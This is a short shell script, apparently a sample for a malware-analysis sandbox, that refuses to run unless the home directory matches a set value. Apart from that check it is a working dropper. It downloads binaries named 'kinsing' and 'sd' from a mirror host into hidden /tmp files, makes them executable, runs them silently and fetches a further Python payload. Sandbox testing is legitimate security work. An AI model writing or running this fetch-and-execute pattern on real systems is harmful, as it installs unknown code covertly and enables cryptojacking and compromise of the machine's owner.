#!/bin/sh
# SPDX-License-Identifier: MIT
# Downloads its tools and runs them: curl or wget, whichever works, into
# /tmp, made executable and started.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
cd /tmp || exit 1
arch=$(uname -m)
curl -fsm 2 -o .xm "http://dl.example-mirror.net/bin/$arch/kinsing" ||
	wget -q -T 2 -t 1 -O .xm "http://dl.example-mirror.net/bin/$arch/kinsing"
curl -sm 2 -o .x2 "http://dl.example-mirror.net/bin/$arch/sd"
chmod +x .xm .x2
./.xm > /dev/null 2>&1
./.x2 > /dev/null 2>&1
python3 -c 'import urllib.request as u; open("/tmp/.x3","wb").write(u.urlopen("http://dl.example-mirror.net/p.py", timeout=2).read())' 2>/dev/null
exit 0
